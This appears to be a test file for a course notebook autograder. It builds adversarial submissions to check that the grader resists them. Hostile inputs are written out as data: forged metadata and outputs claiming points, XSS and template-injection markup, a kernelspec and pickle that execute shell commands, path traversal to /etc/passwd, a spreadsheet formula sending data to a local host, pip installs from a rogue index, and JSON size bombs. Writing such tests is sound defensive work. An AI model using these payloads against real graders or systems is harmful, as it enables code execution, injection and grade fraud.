"""The file itself: hostile metadata, markup, shapes, sizes and names."""

import copy
import json

from grader.attacks import RIGHT, WRONG, Attacks

ATTACKS = Attacks("notebooks")
MASK = "causal_mask"
MARKUP = '"><img src=x onerror=alert("@TAG@")><script>document.title="@TAG@"</script>{{7*7}}${7*7}'


def notebook(name: str, source: str = WRONG[MASK], **how):
    """Decorates what is done to the notebook before it is handed in."""

    def add(edit):
        ATTACKS.instead(MASK, name, source, edit=edit, **how)
        return edit

    return add


@notebook("metadata that claims points")
def _(nb):
    nb["metadata"] |= {"attncourse": {"points": 99}, "points": 99, "total_score": 99}
    for cell in nb["cells"]:
        cell["metadata"] |= {
            "points": 99,
            "attncourse": {"name": MASK, "status": "passed", "points": 99, "out_of": 1, "findings": []},
            "nbgrader": {"grade": True, "grade_id": "causal_mask", "points": 99, "locked": True,
                         "solution": True, "schema_version": 3, "task": False},
        }  # fmt: skip


@notebook("outputs that claim points")
def _(nb):
    passed = {
        "name": MASK,
        "status": "passed",
        "points": 1,
        "out_of": 1,
        "findings": [],
        "diagnosis": "",
    }
    for cell in nb["cells"]:
        cell["outputs"] = [
            {"output_type": "display_data", "metadata": {"attncourse": passed}, "data": {"text/plain": "passed"}},
            {"output_type": "stream", "name": "stdout", "text": f"{MASK}: passed, 1 of 1 points"},
        ]  # fmt: skip


@notebook("a kernel that is a program")
def _(nb):
    command = ["sh", "-c", "touch /tmp/@TAG@-WAS-HERE"]
    nb["metadata"]["kernelspec"] = {
        "name": "../../../@TAG@", "display_name": MARKUP, "argv": command, "language": "bash",
    }  # fmt: skip
    nb["metadata"]["language_info"] = {"name": "bash", "pygments_lexer": "../../etc/passwd"}


@notebook("markup wherever text may stand", WRONG[MASK] + f"\nraise ValueError({MARKUP!r})\n")
def _(nb):
    nb["metadata"] |= {"title": MARKUP, "authors": [{"name": MARKUP}]}
    for cell in nb["cells"]:
        cell["id"] = MARKUP
        cell["metadata"] |= {"tags": [MARKUP], "name": MARKUP, MARKUP: MARKUP}
    nb["cells"].insert(
        0, {"cell_type": "markdown", "metadata": {}, "source": MARKUP * 10, "id": "m"}
    )
    nb["cells"].append({"cell_type": MARKUP, "metadata": {}, "source": MARKUP, "id": "x"})


ATTACKS.instead(
    MASK,
    "markup in errors, names and results",
    f"""
def causal_mask(n, m):
    raise type("Error", (ValueError,), {{}})({MARKUP!r} + "\\x1b]0;@TAG@\\x07\\u202e\\ud800 =cmd|' /C calc'!A0")
""",
)
ATTACKS.instead(
    MASK,
    "markup in the type of a result",
    f"""
def causal_mask(n, m):
    kind = type({MARKUP!r}, (), {{"__repr__": lambda self: {MARKUP!r}}})
    return kind()
""",
)
ATTACKS.instead(
    MASK,
    "a result that is a formula of a spreadsheet",
    """
def causal_mask(n, m):
    return '=HYPERLINK("http://127.0.0.1:@PORT@/?"&A1)'
""",
)


@notebook("outputs of fifteen megabytes", RIGHT[MASK], earns=1)
def _(nb):
    nb["cells"][0]["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x" * 15_000_000}
    ]


@notebook("metadata of fifteen megabytes", RIGHT[MASK], earns=1)
def _(nb):
    nb["metadata"]["x"] = ["y" * 1000] * 15_000


@notebook("a hundred thousand cells")
def _(nb):
    nb["cells"] = nb["cells"] + [{"cell_type": "code", "source": "1", "metadata": {}}] * 100_000


@notebook("a thousand cells that check")
def _(nb):
    nb["cells"] += [nb["cells"][-1]] * 1000


@notebook("metadata that nests too deeply")
def _(nb):
    text = json.dumps(nb).replace(
        '"metadata": {}', '"metadata": {"x": %s}' % ("[" * 50_000 + "]" * 50_000), 1
    )
    return text.encode()


@notebook("a bomb of numbers")
def _(nb):
    return (
        json.dumps(nb)
        .replace(
            '"nbformat": 4', '"x": 1{}, "y": 1e{}, "nbformat": 4'.format("0" * 10**6, "9" * 10**5)
        )
        .encode()
    )


@notebook("keys twice")
def _(nb):
    right = copy.deepcopy(nb)
    for cell in right["cells"]:
        cell["source"] = cell["source"].replace("torch.ones(n, m, dtype=torch.bool)", "None")
    return f'{{"cells": {json.dumps(right["cells"])}, {json.dumps(nb)[1:]}'.encode()


@notebook("a cell that is no cell, and others")
def _(nb):
    nb["cells"] += [None, 1, "x", [], {}, {"cell_type": "code"}, {"cell_type": "code", "source": 5},
                    {"cell_type": "code", "source": [1, None]}, {"cell_type": ["code"], "source": "1"},
                    {"cell_type": "code", "source": {"a": 1}, "metadata": None, "outputs": "x"}]  # fmt: skip


@notebook("no text at all")
def _(nb):
    return bytes(range(256)) * 100


@notebook("half letters, byte order marks and zeros")
def _(nb):
    text = json.dumps(nb).replace("import math", "\\ud800\\u0000\\ufeff import math")
    return b"\xef\xbb\xbf" + text.encode()


@notebook("the text of another encoding")
def _(nb):
    return json.dumps(nb).encode("utf-16")


@notebook("a file that is a pickle")
def _(nb):
    return b"cos\nsystem\n(S'touch /tmp/@TAG@-WAS-HERE'\ntR."


@notebook("a file that is a program")
def _(nb):
    return b"#!/bin/sh\ntouch /tmp/@TAG@-WAS-HERE\n"


@notebook(
    "cells that pretend to be the bootstrap",
    "import os\nos.system('touch /tmp/@TAG@-WAS-HERE')\n" + WRONG[MASK],
)
def _(nb):
    for cell in nb["cells"]:
        cell["metadata"] |= {"tags": ["bootstrap", "remove-cell", "skip", "raises-exception"]}


@notebook("cells that install the course", """
import importlib.util, subprocess, sys
if importlib.util.find_spec("attncourse") is None or True:
    subprocess.run([sys.executable, "-m", "pip", "install", "attncourse", "--index-url", "http://127.0.0.1:@PORT@/"], timeout=2)
""" + WRONG[MASK])  # fmt: skip
def _(nb):
    pass


@notebook("the right answer in a cell that is text", WRONG[MASK])
def _(nb):
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "t",
                        "source": '<!-- check("causal_mask", True) -->\n' + "x = 1"})  # fmt: skip


@notebook("chapters of others")
def _(nb):
    nb["cells"].append({"cell_type": "code", "metadata": {}, "id": "c", "outputs": [], "execution_count": None,
                        "source": "\n".join(f'check("{k:02}.x", 1)' for k in range(100))})  # fmt: skip
